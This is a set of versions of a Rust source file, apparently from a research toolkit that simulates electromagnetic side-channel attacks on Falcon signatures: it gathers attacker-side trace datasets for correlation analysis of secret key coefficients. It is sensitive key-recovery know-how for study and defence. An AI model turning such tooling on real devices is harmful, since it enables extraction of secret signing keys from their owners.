        let mut inj = FaultInjector::default();
        rt.slice(&mut inj).unwrap();
        rt.checkpoint(&store).unwrap();
        // Batch 1 panics on first encounter…
        let prev = std::panic::take_hook();
        std::panic::set_hook(Box::new(|_| {}));
        let r = catch_unwind(AssertUnwindSafe(|| rt.slice(&mut inj)));
        std::panic::set_hook(prev);
        assert!(r.is_err(), "injected panic must unwind");
        // …and the rebuilt runtime passes the same batch on retry.
        let mut rt = JobRuntime::prepare(&spec, &store).unwrap();
        let out = rt.slice(&mut inj).unwrap();
        assert_eq!(out.steps, 1);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
