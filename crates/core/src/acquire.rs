//! Trace acquisition campaigns and the attacker-side dataset.
//!
//! The adversary triggers signatures on random messages, records the EM
//! trace of each, and — because the salt and message are public —
//! recomputes `FFT(c)` with the public reference code, bit for bit equal
//! to the device's. A [`Dataset`] keeps, per trace and per targeted
//! secret index, the two known operands and the 2×14 samples of the two
//! multiplications involving that secret value.

use falcon_emsim::{Device, StepKind};
use falcon_fpr::Fpr;
use falcon_sig::fft::fft;
use falcon_sig::hash::hash_to_point;
use falcon_sig::rng::Prng;

/// Samples stored per (trace, target): two multiplications of
/// [`StepKind::COUNT`] micro-ops each.
pub const POINTS_PER_TARGET: usize = 2 * StepKind::COUNT;

/// An attacker-side dataset for a set of targeted secret indices.
#[derive(Debug, Clone)]
pub struct Dataset {
    n: usize,
    targets: Vec<usize>,
    traces: usize,
    /// `[trace][target][occurrence]` known operand bits.
    knowns: Vec<u64>,
    /// `[trace][target][occurrence·14 + step]` samples.
    points: Vec<f32>,
}

impl Dataset {
    /// Runs an acquisition campaign: `n_traces` signatures over random
    /// messages drawn from `msg_rng`, keeping the windows for `targets`
    /// (flat `FFT(f)` indices, `0..n`).
    ///
    /// # Panics
    ///
    /// Panics if a target index is out of range for the device's degree.
    pub fn collect(
        device: &mut Device,
        targets: &[usize],
        n_traces: usize,
        msg_rng: &mut Prng,
    ) -> Dataset {
        let n = device.signing_key().logn().n();
        for &t in targets {
            assert!(t < n, "target {t} out of range for n={n}");
        }
        let layout = device.layout();
        let mut knowns = Vec::with_capacity(n_traces * targets.len() * 2);
        let mut points = Vec::with_capacity(n_traces * targets.len() * POINTS_PER_TARGET);
        for _ in 0..n_traces {
            let mut msg = [0u8; 24];
            msg_rng.fill(&mut msg);
            let cap = device.capture(&msg);
            // Adversary-side recomputation of FFT(c).
            let c = hash_to_point(&cap.salt, &cap.msg, n);
            let mut c_fft: Vec<Fpr> = c.iter().map(|&v| Fpr::from_i64(v as i64)).collect();
            fft(&mut c_fft);
            for &target in targets {
                for (mul_idx, known_idx) in layout.muls_for_secret(target) {
                    knowns.push(c_fft[known_idx].to_bits());
                    for step in StepKind::ALL {
                        points.push(cap.trace.samples[layout.sample_index(mul_idx, step)]);
                    }
                }
            }
        }
        Dataset { n, targets: targets.to_vec(), traces: n_traces, knowns, points }
    }

    /// Rebuilds a dataset from raw storage (used by [`crate::io`]).
    ///
    /// # Panics
    ///
    /// Panics if the component lengths are inconsistent with the
    /// dimensions.
    pub fn from_raw_parts(
        n: usize,
        targets: Vec<usize>,
        traces: usize,
        knowns: Vec<u64>,
        points: Vec<f32>,
    ) -> Dataset {
        assert_eq!(knowns.len(), traces * targets.len() * 2);
        assert_eq!(points.len(), traces * targets.len() * POINTS_PER_TARGET);
        assert!(targets.iter().all(|&t| t < n));
        Dataset { n, targets, traces, knowns, points }
    }

    /// Ring degree.
    pub fn n(&self) -> usize {
        self.n
    }

    /// The targeted secret indices.
    pub fn targets(&self) -> &[usize] {
        &self.targets
    }

    /// Number of traces.
    pub fn traces(&self) -> usize {
        self.traces
    }

    fn target_pos(&self, target: usize) -> usize {
        self.targets.iter().position(|&t| t == target).expect("target not in dataset")
    }

    /// Known operand bits for `(trace, target, occurrence)`.
    pub fn known(&self, trace: usize, target: usize, occ: usize) -> u64 {
        debug_assert!(occ < 2);
        let ti = self.target_pos(target);
        self.knowns[(trace * self.targets.len() + ti) * 2 + occ]
    }

    /// Measured sample for `(trace, target, occurrence, step)`.
    pub fn sample(&self, trace: usize, target: usize, occ: usize, step: StepKind) -> f32 {
        let ti = self.target_pos(target);
        self.points[(trace * self.targets.len() + ti) * POINTS_PER_TARGET
            + occ * StepKind::COUNT
            + step as usize]
    }

    /// Column of samples across all traces for `(target, occurrence,
    /// step)`.
    pub fn sample_column(&self, target: usize, occ: usize, step: StepKind) -> Vec<f32> {
        (0..self.traces).map(|d| self.sample(d, target, occ, step)).collect()
    }

    /// Known-operand column across traces for `(target, occurrence)`.
    pub fn known_column(&self, target: usize, occ: usize) -> Vec<u64> {
        (0..self.traces).map(|d| self.known(d, target, occ)).collect()
    }

    /// The 28-sample window (both occurrences, all steps) of one trace
    /// for a target — the per-coefficient "time axis" used by the
    /// correlation-versus-time figures.
    pub fn window(&self, trace: usize, target: usize) -> &[f32] {
        let ti = self.target_pos(target);
        let start = (trace * self.targets.len() + ti) * POINTS_PER_TARGET;
        &self.points[start..start + POINTS_PER_TARGET]
    }

    /// Restricts the dataset to its first `n_traces` traces (cheap way to
    /// study trace-count sweeps on one acquisition).
    pub fn truncated(&self, n_traces: usize) -> Dataset {
        let n_traces = n_traces.min(self.traces);
        Dataset {
            n: self.n,
            targets: self.targets.clone(),
            traces: n_traces,
            knowns: self.knowns[..n_traces * self.targets.len() * 2].to_vec(),
            points: self.points[..n_traces * self.targets.len() * POINTS_PER_TARGET].to_vec(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{LeakageModel, MeasurementChain, Scope};
    use falcon_sig::{KeyPair, LogN};

    fn device(noise: f64) -> Device {
        let mut rng = Prng::from_seed(b"acquire test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, noise),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
        };
        Device::new(kp.into_parts().0, chain, b"acquire bench")
    }

    #[test]
    fn dataset_shapes() {
        let mut d = device(1.0);
        let mut mrng = Prng::from_seed(b"msgs");
        let ds = Dataset::collect(&mut d, &[0, 3, 7], 10, &mut mrng);
        assert_eq!(ds.traces(), 10);
        assert_eq!(ds.targets(), &[0, 3, 7]);
        assert_eq!(ds.window(0, 3).len(), POINTS_PER_TARGET);
        assert_eq!(ds.sample_column(7, 1, StepKind::SignXor).len(), 10);
        let t = ds.truncated(4);
        assert_eq!(t.traces(), 4);
        assert_eq!(t.sample(3, 0, 0, StepKind::Pack), ds.sample(3, 0, 0, StepKind::Pack));
    }

    #[test]
    fn noiseless_samples_match_ground_truth_model() {
        use crate::model::{hyp_exact, KnownOperand};
        let mut d = device(0.0);
        let truth = d.signing_key().f_fft().to_vec();
        let mut mrng = Prng::from_seed(b"gt");
        let ds = Dataset::collect(&mut d, &[1, 5], 5, &mut mrng);
        for trace in 0..5 {
            for &target in &[1usize, 5] {
                for occ in 0..2 {
                    let known = KnownOperand::new(ds.known(trace, target, occ));
                    for step in StepKind::ALL {
                        let want = hyp_exact(truth[target].to_bits(), &known, step);
                        let got = ds.sample(trace, target, occ, step) as f64;
                        assert_eq!(got, want, "trace {trace} target {target} occ {occ} {step:?}");
                    }
                }
            }
        }
    }
}
