//! Trace acquisition campaigns and the attacker-side dataset.
//!
//! The adversary triggers signatures on random messages, records the EM
//! trace of each, and — because the salt and message are public —
//! recomputes `FFT(c)` with the public reference code, bit for bit equal
//! to the device's. A [`Dataset`] keeps, per trace and per targeted
//! secret index, the two known operands and the 2×14 samples of the two
//! multiplications involving that secret value.

use crate::error::{Error, Result};
use falcon_emsim::{Device, StepKind};
use falcon_fpr::Fpr;
use falcon_sig::fft::fft;
use falcon_sig::hash::hash_to_point;
use falcon_sig::rng::Prng;

/// Samples stored per (trace, target): two multiplications of
/// [`StepKind::COUNT`] micro-ops each.
pub const POINTS_PER_TARGET: usize = 2 * StepKind::COUNT;

/// An attacker-side dataset for a set of targeted secret indices.
#[derive(Debug, Clone)]
pub struct Dataset {
    n: usize,
    targets: Vec<usize>,
    traces: usize,
    /// `[trace][target][occurrence]` known operand bits.
    knowns: Vec<u64>,
    /// `[trace][target][occurrence·14 + step]` samples.
    points: Vec<f32>,
}

impl Dataset {
    /// Runs an acquisition campaign: `n_traces` signatures over random
    /// messages drawn from `msg_rng`, keeping the windows for `targets`
    /// (flat `FFT(f)` indices, `0..n`).
    ///
    /// # Errors
    ///
    /// Returns [`Error::TargetOutOfRange`] when a target index exceeds
    /// the device's degree. Captures whose trace does not cover the
    /// expected layout (e.g. a missed trigger under an active
    /// [`falcon_emsim::FaultModel`]) would corrupt the window extraction
    /// and are rejected as [`Error::Acquisition`]; use
    /// [`Dataset::collect_screened`](crate::screen) to tolerate them.
    pub fn try_collect(
        device: &mut Device,
        targets: &[usize],
        n_traces: usize,
        msg_rng: &mut Prng,
    ) -> Result<Dataset> {
        let _span = crate::obs::span("acquire.collect");
        let n = device.signing_key().logn().n();
        for &t in targets {
            if t >= n {
                return Err(Error::TargetOutOfRange { target: t, n });
            }
        }
        crate::obs::counter("acquire.traces_requested").add(n_traces as u64);
        let layout = device.layout();
        let expected_len = layout.samples_per_trace();
        let mut knowns = Vec::with_capacity(n_traces * targets.len() * 2);
        let mut points = Vec::with_capacity(n_traces * targets.len() * POINTS_PER_TARGET);
        for i in 0..n_traces {
            let mut msg = [0u8; 24];
            msg_rng.fill(&mut msg);
            let cap = device.capture(&msg);
            if cap.trace.len() < expected_len {
                return Err(Error::Acquisition(format!(
                    "trace {i} has {} samples, layout needs {expected_len} \
                     (faulty capture? use collect_screened)",
                    cap.trace.len()
                )));
            }
            // Adversary-side recomputation of FFT(c).
            let c = hash_to_point(&cap.salt, &cap.msg, n);
            let mut c_fft: Vec<Fpr> = c.iter().map(|&v| Fpr::from_i64(v as i64)).collect();
            fft(&mut c_fft);
            for &target in targets {
                for (mul_idx, known_idx) in layout.muls_for_secret(target) {
                    knowns.push(c_fft[known_idx].to_bits());
                    for step in StepKind::ALL {
                        points.push(cap.trace.samples[layout.sample_index(mul_idx, step)]);
                    }
                }
            }
        }
        Ok(Dataset { n, targets: targets.to_vec(), traces: n_traces, knowns, points })
    }

    /// Panicking convenience wrapper around [`Dataset::try_collect`].
    ///
    /// # Panics
    ///
    /// Panics if a target index is out of range for the device's degree
    /// or a capture is unusable (see [`Dataset::try_collect`]).
    #[track_caller]
    pub fn collect(
        device: &mut Device,
        targets: &[usize],
        n_traces: usize,
        msg_rng: &mut Prng,
    ) -> Dataset {
        match Dataset::try_collect(device, targets, n_traces, msg_rng) {
            Ok(ds) => ds,
            Err(e) => panic!("Dataset::collect failed: {e}"),
        }
    }

    /// Rebuilds a dataset from raw storage (used by [`crate::io`]).
    ///
    /// # Errors
    ///
    /// Returns a typed error when the component lengths are inconsistent
    /// with the dimensions or a target is out of range.
    pub fn try_from_raw_parts(
        n: usize,
        targets: Vec<usize>,
        traces: usize,
        knowns: Vec<u64>,
        points: Vec<f32>,
    ) -> Result<Dataset> {
        if !n.is_power_of_two() || n < 2 {
            return Err(Error::BadDegree { n });
        }
        let want_knowns = traces
            .checked_mul(targets.len())
            .and_then(|v| v.checked_mul(2))
            .ok_or_else(|| Error::invalid("known-operand count overflows"))?;
        if knowns.len() != want_knowns {
            return Err(Error::ShapeMismatch {
                what: "known operands",
                expected: want_knowns,
                got: knowns.len(),
            });
        }
        let want_points = traces
            .checked_mul(targets.len())
            .and_then(|v| v.checked_mul(POINTS_PER_TARGET))
            .ok_or_else(|| Error::invalid("sample count overflows"))?;
        if points.len() != want_points {
            return Err(Error::ShapeMismatch {
                what: "samples",
                expected: want_points,
                got: points.len(),
            });
        }
        if let Some(&t) = targets.iter().find(|&&t| t >= n) {
            return Err(Error::TargetOutOfRange { target: t, n });
        }
        Ok(Dataset { n, targets, traces, knowns, points })
    }

    /// Panicking convenience wrapper around
    /// [`Dataset::try_from_raw_parts`].
    ///
    /// # Panics
    ///
    /// Panics if the component lengths are inconsistent with the
    /// dimensions.
    #[track_caller]
    pub fn from_raw_parts(
        n: usize,
        targets: Vec<usize>,
        traces: usize,
        knowns: Vec<u64>,
        points: Vec<f32>,
    ) -> Dataset {
        match Dataset::try_from_raw_parts(n, targets, traces, knowns, points) {
            Ok(ds) => ds,
            Err(e) => panic!("Dataset::from_raw_parts failed: {e}"),
        }
    }

    /// Ring degree.
    pub fn n(&self) -> usize {
        self.n
    }

    /// The targeted secret indices.
    pub fn targets(&self) -> &[usize] {
        &self.targets
    }

    /// Number of traces.
    pub fn traces(&self) -> usize {
        self.traces
    }

    /// Position of `target` in the target list, if present.
    fn try_target_pos(&self, target: usize) -> Option<usize> {
        self.targets.iter().position(|&t| t == target)
    }

    #[track_caller]
    fn target_pos(&self, target: usize) -> usize {
        match self.try_target_pos(target) {
            Some(p) => p,
            None => panic!("{}", Error::TargetNotInDataset { target }),
        }
    }

    /// Known operand bits for `(trace, target, occurrence)`.
    pub fn known(&self, trace: usize, target: usize, occ: usize) -> u64 {
        debug_assert!(occ < 2);
        let ti = self.target_pos(target);
        self.knowns[(trace * self.targets.len() + ti) * 2 + occ]
    }

    /// Measured sample for `(trace, target, occurrence, step)`.
    pub fn sample(&self, trace: usize, target: usize, occ: usize, step: StepKind) -> f32 {
        let ti = self.target_pos(target);
        self.points[(trace * self.targets.len() + ti) * POINTS_PER_TARGET
            + occ * StepKind::COUNT
            + step as usize]
    }

    /// Column of samples across all traces for `(target, occurrence,
    /// step)`.
    pub fn sample_column(&self, target: usize, occ: usize, step: StepKind) -> Vec<f32> {
        (0..self.traces).map(|d| self.sample(d, target, occ, step)).collect()
    }

    /// Known-operand column across traces for `(target, occurrence)`.
    pub fn known_column(&self, target: usize, occ: usize) -> Vec<u64> {
        (0..self.traces).map(|d| self.known(d, target, occ)).collect()
    }

    /// The 28-sample window (both occurrences, all steps) of one trace
    /// for a target — the per-coefficient "time axis" used by the
    /// correlation-versus-time figures.
    pub fn window(&self, trace: usize, target: usize) -> &[f32] {
        let ti = self.target_pos(target);
        let start = (trace * self.targets.len() + ti) * POINTS_PER_TARGET;
        &self.points[start..start + POINTS_PER_TARGET]
    }

    /// Appends the traces of `other` to this dataset. Both must share the
    /// ring degree and the exact target list (batch-wise accumulation in
    /// adaptive campaigns).
    ///
    /// # Errors
    ///
    /// Returns [`Error::DatasetMismatch`] when the shapes differ.
    pub fn append(&mut self, other: &Dataset) -> Result<()> {
        if self.n != other.n {
            return Err(Error::DatasetMismatch(format!("ring degree {} vs {}", self.n, other.n)));
        }
        if self.targets != other.targets {
            return Err(Error::DatasetMismatch(format!(
                "target lists differ ({:?} vs {:?})",
                self.targets, other.targets
            )));
        }
        self.knowns.extend_from_slice(&other.knowns);
        self.points.extend_from_slice(&other.points);
        self.traces += other.traces;
        Ok(())
    }

    /// Extracts the sub-dataset covering only `subset` of the targets
    /// (same traces, fewer columns).
    ///
    /// # Errors
    ///
    /// Returns [`Error::TargetNotInDataset`] when a requested target is
    /// not part of this dataset.
    pub fn select_targets(&self, subset: &[usize]) -> Result<Dataset> {
        let pos: Vec<usize> = subset
            .iter()
            .map(|&t| self.try_target_pos(t).ok_or(Error::TargetNotInDataset { target: t }))
            .collect::<Result<_>>()?;
        let mut knowns = Vec::with_capacity(self.traces * subset.len() * 2);
        let mut points = Vec::with_capacity(self.traces * subset.len() * POINTS_PER_TARGET);
        for trace in 0..self.traces {
            for &ti in &pos {
                let kbase = (trace * self.targets.len() + ti) * 2;
                knowns.extend_from_slice(&self.knowns[kbase..kbase + 2]);
                let pbase = (trace * self.targets.len() + ti) * POINTS_PER_TARGET;
                points.extend_from_slice(&self.points[pbase..pbase + POINTS_PER_TARGET]);
            }
        }
        Ok(Dataset { n: self.n, targets: subset.to_vec(), traces: self.traces, knowns, points })
    }

    /// An empty dataset (zero traces) for the given degree and targets —
    /// the identity for [`Dataset::append`].
    ///
    /// # Errors
    ///
    /// Returns a typed error on a bad degree or out-of-range target.
    pub fn empty(n: usize, targets: &[usize]) -> Result<Dataset> {
        Dataset::try_from_raw_parts(n, targets.to_vec(), 0, Vec::new(), Vec::new())
    }

    /// Mutable access to the flat sample storage (screening's outlier
    /// winsorisation rewrites columns in place).
    pub(crate) fn points_mut(&mut self) -> &mut [f32] {
        &mut self.points
    }

    /// Restricts the dataset to its first `n_traces` traces (cheap way to
    /// study trace-count sweeps on one acquisition).
    pub fn truncated(&self, n_traces: usize) -> Dataset {
        let n_traces = n_traces.min(self.traces);
        Dataset {
            n: self.n,
            targets: self.targets.clone(),
            traces: n_traces,
            knowns: self.knowns[..n_traces * self.targets.len() * 2].to_vec(),
            points: self.points[..n_traces * self.targets.len() * POINTS_PER_TARGET].to_vec(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{LeakageModel, MeasurementChain, Scope};
    use falcon_sig::{KeyPair, LogN};

    fn device(noise: f64) -> Device {
        let mut rng = Prng::from_seed(b"acquire test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, noise),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        Device::new(kp.into_parts().0, chain, b"acquire bench")
    }

    #[test]
    fn dataset_shapes() {
        let mut d = device(1.0);
        let mut mrng = Prng::from_seed(b"msgs");
        let ds = Dataset::collect(&mut d, &[0, 3, 7], 10, &mut mrng);
        assert_eq!(ds.traces(), 10);
        assert_eq!(ds.targets(), &[0, 3, 7]);
        assert_eq!(ds.window(0, 3).len(), POINTS_PER_TARGET);
        assert_eq!(ds.sample_column(7, 1, StepKind::SignXor).len(), 10);
        let t = ds.truncated(4);
        assert_eq!(t.traces(), 4);
        assert_eq!(t.sample(3, 0, 0, StepKind::Pack), ds.sample(3, 0, 0, StepKind::Pack));
    }

    #[test]
    fn noiseless_samples_match_ground_truth_model() {
        use crate::model::{hyp_exact, KnownOperand};
        let mut d = device(0.0);
        let truth = d.signing_key().f_fft().to_vec();
        let mut mrng = Prng::from_seed(b"gt");
        let ds = Dataset::collect(&mut d, &[1, 5], 5, &mut mrng);
        for trace in 0..5 {
            for &target in &[1usize, 5] {
                for occ in 0..2 {
                    let known = KnownOperand::new(ds.known(trace, target, occ));
                    for step in StepKind::ALL {
                        let want = hyp_exact(truth[target].to_bits(), &known, step);
                        let got = ds.sample(trace, target, occ, step) as f64;
                        assert_eq!(got, want, "trace {trace} target {target} occ {occ} {step:?}");
                    }
                }
            }
        }
    }
}
