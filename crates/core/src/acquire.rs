//! Trace acquisition campaigns and the attacker-side dataset.
//!
//! The adversary triggers signatures on random messages, records the EM
//! trace of each, and — because the salt and message are public —
//! recomputes `FFT(c)` with the public reference code, bit for bit equal
//! to the device's. A [`Dataset`] keeps, per trace and per targeted
//! secret index, the two known operands and the 2×14 samples of the two
//! multiplications involving that secret value.
//!
//! # Columnar layout (v2)
//!
//! The distinguisher consumes *columns*: one `(target, occurrence,
//! step)` series across all traces per Pearson accumulation. Storage is
//! therefore struct-of-arrays, keyed `[target][occ][step][trace]` for
//! samples and `[target][occ][trace]` for known operands, so
//! [`Dataset::sample_column`] and [`Dataset::known_column`] return
//! **borrowed slices** straight into the dataset buffer — zero
//! allocation, zero copy, dense sequential memory under the
//! [`PearsonSums::push_column`](crate::cpa::PearsonSums::push_column)
//! tile kernel. Acquisition produces traces row-by-row; the transpose
//! happens exactly once, at dataset construction.

use crate::error::{Error, Result};
use crate::exec;
use falcon_emsim::{Capture, Device, StepKind};
use falcon_fpr::Fpr;
use falcon_sig::fft::fft;
use falcon_sig::hash::hash_to_point;
use falcon_sig::rng::Prng;

/// Samples stored per (trace, target): two multiplications of
/// [`StepKind::COUNT`] micro-ops each.
pub const POINTS_PER_TARGET: usize = 2 * StepKind::COUNT;

/// Captures processed per acquisition chunk: the capture loop is serial
/// (the device is one mutable stream), but the attacker-side `FFT(c)`
/// recomputation of each chunk fans out on the executor while memory
/// stays bounded by the chunk, not the campaign.
const ACQUIRE_CHUNK: usize = 512;

/// An attacker-side dataset for a set of targeted secret indices.
#[derive(Debug, Clone)]
pub struct Dataset {
    n: usize,
    targets: Vec<usize>,
    traces: usize,
    /// Columnar known operands: `[target][occ][trace]`.
    knowns: Vec<u64>,
    /// Columnar samples: `[target][occ][step][trace]`.
    points: Vec<f32>,
}

/// Recomputes the attacker-side known operands and extracts the target
/// windows of one capture (row-major: `[target][occ]` operands,
/// `[target][occ·14+step]` samples). Pure — safe to fan out per trace.
pub(crate) fn recompute_trace(
    cap: &Capture,
    n: usize,
    targets: &[usize],
    layout: &falcon_emsim::MulOpLayout,
    shift: isize,
) -> (Vec<u64>, Vec<f32>) {
    let c = hash_to_point(&cap.salt, &cap.msg, n);
    let mut c_fft: Vec<Fpr> = c.iter().map(|&v| Fpr::from_i64(v as i64)).collect();
    fft(&mut c_fft);
    let samples = &cap.trace.samples;
    let len = samples.len() as isize;
    let mut knowns = Vec::with_capacity(targets.len() * 2);
    let mut points = Vec::with_capacity(targets.len() * POINTS_PER_TARGET);
    for &target in targets {
        for (mul_idx, known_idx) in layout.muls_for_secret(target) {
            knowns.push(c_fft[known_idx].to_bits());
            for step in StepKind::ALL {
                let src = layout.sample_index(mul_idx, step) as isize + shift;
                // A realignment shift may walk a window off the capture
                // edge; those samples are zero-filled like the full-trace
                // realigner did.
                points.push(if (0..len).contains(&src) { samples[src as usize] } else { 0.0 });
            }
        }
    }
    (knowns, points)
}

/// Row-major → columnar scatter of one acquisition batch: `rows` holds
/// per-trace `(knowns, points)` in trace order.
pub(crate) fn scatter_rows(
    n: usize,
    targets: &[usize],
    rows: &[(Vec<u64>, Vec<f32>)],
) -> Result<Dataset> {
    let traces = rows.len();
    let n_cols = targets.len() * 2;
    let mut knowns = vec![0u64; traces * n_cols];
    let mut points = vec![0f32; traces * n_cols * StepKind::COUNT];
    for (trace, (row_k, row_p)) in rows.iter().enumerate() {
        for (c, &k) in row_k.iter().enumerate() {
            knowns[c * traces + trace] = k;
        }
        for (c, &p) in row_p.iter().enumerate() {
            points[c * traces + trace] = p;
        }
    }
    Dataset::try_from_columnar_parts(n, targets.to_vec(), traces, knowns, points)
}

impl Dataset {
    /// Runs an acquisition campaign: `n_traces` signatures over random
    /// messages drawn from `msg_rng`, keeping the windows for `targets`
    /// (flat `FFT(f)` indices, `0..n`).
    ///
    /// Capture is serial (the device is a single stream); the per-trace
    /// attacker-side recomputation (`hash_to_point` + `fft`) fans out on
    /// the [`crate::exec`] executor in bounded chunks, with bit-identical
    /// results at any thread count.
    ///
    /// # Errors
    ///
    /// Returns [`Error::TargetOutOfRange`] when a target index exceeds
    /// the device's degree. Captures whose trace does not cover the
    /// expected layout (e.g. a missed trigger under an active
    /// [`falcon_emsim::FaultModel`]) would corrupt the window extraction
    /// and are rejected as [`Error::Acquisition`]; use
    /// [`Dataset::collect_screened`](crate::screen) to tolerate them.
    pub fn try_collect(
        device: &mut Device,
        targets: &[usize],
        n_traces: usize,
        msg_rng: &mut Prng,
    ) -> Result<Dataset> {
        let _span = crate::obs::span("acquire.collect");
        let n = device.signing_key().logn().n();
        for &t in targets {
            if t >= n {
                return Err(Error::TargetOutOfRange { target: t, n });
            }
        }
        crate::obs::counter("acquire.traces_requested").add(n_traces as u64);
        let layout = device.layout();
        let expected_len = layout.samples_per_trace();
        let mut rows: Vec<(Vec<u64>, Vec<f32>)> = Vec::with_capacity(n_traces);
        let mut chunk: Vec<Capture> = Vec::with_capacity(ACQUIRE_CHUNK.min(n_traces));
        let mut captured = 0usize;
        while captured < n_traces {
            chunk.clear();
            while captured < n_traces && chunk.len() < ACQUIRE_CHUNK {
                let mut msg = [0u8; 24];
                msg_rng.fill(&mut msg);
                let cap = device.capture(&msg);
                if cap.trace.len() < expected_len {
                    return Err(Error::Acquisition(format!(
                        "trace {captured} has {} samples, layout needs {expected_len} \
                         (faulty capture? use collect_screened)",
                        cap.trace.len()
                    )));
                }
                chunk.push(cap);
                captured += 1;
            }
            rows.extend(exec::map(&chunk, |cap| recompute_trace(cap, n, targets, &layout, 0)));
        }
        scatter_rows(n, targets, &rows)
    }

    /// Panicking convenience wrapper around [`Dataset::try_collect`].
    ///
    /// # Panics
    ///
    /// Panics if a target index is out of range for the device's degree
    /// or a capture is unusable (see [`Dataset::try_collect`]).
    #[track_caller]
    pub fn collect(
        device: &mut Device,
        targets: &[usize],
        n_traces: usize,
        msg_rng: &mut Prng,
    ) -> Dataset {
        match Dataset::try_collect(device, targets, n_traces, msg_rng) {
            Ok(ds) => ds,
            Err(e) => panic!("Dataset::collect failed: {e}"),
        }
    }

    fn check_shapes(
        n: usize,
        targets: &[usize],
        traces: usize,
        n_knowns: usize,
        n_points: usize,
    ) -> Result<()> {
        if !n.is_power_of_two() || n < 2 {
            return Err(Error::BadDegree { n });
        }
        let want_knowns = traces
            .checked_mul(targets.len())
            .and_then(|v| v.checked_mul(2))
            .ok_or_else(|| Error::invalid("known-operand count overflows"))?;
        if n_knowns != want_knowns {
            return Err(Error::ShapeMismatch {
                what: "known operands",
                expected: want_knowns,
                got: n_knowns,
            });
        }
        let want_points = traces
            .checked_mul(targets.len())
            .and_then(|v| v.checked_mul(POINTS_PER_TARGET))
            .ok_or_else(|| Error::invalid("sample count overflows"))?;
        if n_points != want_points {
            return Err(Error::ShapeMismatch {
                what: "samples",
                expected: want_points,
                got: n_points,
            });
        }
        if let Some(&t) = targets.iter().find(|&&t| t >= n) {
            return Err(Error::TargetOutOfRange { target: t, n });
        }
        Ok(())
    }

    /// Rebuilds a dataset from **row-major** raw storage — `knowns` keyed
    /// `[trace][target][occ]`, `points` keyed `[trace][target][occ·14 +
    /// step]`, the v1 on-disk order. The data is transposed once into the
    /// columnar layout.
    ///
    /// # Errors
    ///
    /// Returns a typed error when the component lengths are inconsistent
    /// with the dimensions or a target is out of range.
    pub fn try_from_raw_parts(
        n: usize,
        targets: Vec<usize>,
        traces: usize,
        knowns: Vec<u64>,
        points: Vec<f32>,
    ) -> Result<Dataset> {
        Self::check_shapes(n, &targets, traces, knowns.len(), points.len())?;
        // Transpose row-major [trace][column] → columnar [column][trace].
        let kc = targets.len() * 2;
        let pc = targets.len() * POINTS_PER_TARGET;
        let mut col_knowns = vec![0u64; knowns.len()];
        let mut col_points = vec![0f32; points.len()];
        for trace in 0..traces {
            for c in 0..kc {
                col_knowns[c * traces + trace] = knowns[trace * kc + c];
            }
            for c in 0..pc {
                col_points[c * traces + trace] = points[trace * pc + c];
            }
        }
        Ok(Dataset { n, targets, traces, knowns: col_knowns, points: col_points })
    }

    /// Rebuilds a dataset from **columnar** raw storage — the internal
    /// `[target][occ][trace]` / `[target][occ][step][trace]` layout, as
    /// serialised by the v2 on-disk format. No transpose.
    ///
    /// # Errors
    ///
    /// Same shape checks as [`Dataset::try_from_raw_parts`].
    pub fn try_from_columnar_parts(
        n: usize,
        targets: Vec<usize>,
        traces: usize,
        knowns: Vec<u64>,
        points: Vec<f32>,
    ) -> Result<Dataset> {
        Self::check_shapes(n, &targets, traces, knowns.len(), points.len())?;
        Ok(Dataset { n, targets, traces, knowns, points })
    }

    /// Panicking convenience wrapper around
    /// [`Dataset::try_from_raw_parts`] (row-major input).
    ///
    /// # Panics
    ///
    /// Panics if the component lengths are inconsistent with the
    /// dimensions.
    #[track_caller]
    pub fn from_raw_parts(
        n: usize,
        targets: Vec<usize>,
        traces: usize,
        knowns: Vec<u64>,
        points: Vec<f32>,
    ) -> Dataset {
        match Dataset::try_from_raw_parts(n, targets, traces, knowns, points) {
            Ok(ds) => ds,
            Err(e) => panic!("Dataset::from_raw_parts failed: {e}"),
        }
    }

    /// Ring degree.
    pub fn n(&self) -> usize {
        self.n
    }

    /// The targeted secret indices.
    pub fn targets(&self) -> &[usize] {
        &self.targets
    }

    /// Number of traces.
    pub fn traces(&self) -> usize {
        self.traces
    }

    /// Position of `target` in the target list, if present.
    fn try_target_pos(&self, target: usize) -> Option<usize> {
        self.targets.iter().position(|&t| t == target)
    }

    #[track_caller]
    fn target_pos(&self, target: usize) -> usize {
        match self.try_target_pos(target) {
            Some(p) => p,
            None => panic!("{}", Error::TargetNotInDataset { target }),
        }
    }

    /// Known operand bits for `(trace, target, occurrence)`.
    pub fn known(&self, trace: usize, target: usize, occ: usize) -> u64 {
        self.known_column(target, occ)[trace]
    }

    /// Measured sample for `(trace, target, occurrence, step)`.
    pub fn sample(&self, trace: usize, target: usize, occ: usize, step: StepKind) -> f32 {
        self.sample_column(target, occ, step)[trace]
    }

    /// Column of samples across all traces for `(target, occurrence,
    /// step)` — a borrowed slice straight into the columnar buffer.
    pub fn sample_column(&self, target: usize, occ: usize, step: StepKind) -> &[f32] {
        debug_assert!(occ < 2);
        let ti = self.target_pos(target);
        let base = ((ti * 2 + occ) * StepKind::COUNT + step as usize) * self.traces;
        &self.points[base..base + self.traces]
    }

    /// Known-operand column across traces for `(target, occurrence)` — a
    /// borrowed slice straight into the columnar buffer.
    pub fn known_column(&self, target: usize, occ: usize) -> &[u64] {
        debug_assert!(occ < 2);
        let ti = self.target_pos(target);
        let base = (ti * 2 + occ) * self.traces;
        &self.knowns[base..base + self.traces]
    }

    /// The 28-sample window (both occurrences, all steps) of one trace
    /// for a target — the per-coefficient "time axis" used by the
    /// correlation-versus-time figures. Gathered across columns (the
    /// columnar layout stores trace-major windows non-contiguously).
    pub fn window(&self, trace: usize, target: usize) -> Vec<f32> {
        let ti = self.target_pos(target);
        let base = ti * 2 * StepKind::COUNT;
        (0..POINTS_PER_TARGET).map(|c| self.points[(base + c) * self.traces + trace]).collect()
    }

    /// The columnar known-operand storage (`[target][occ][trace]`), for
    /// the v2 serialiser.
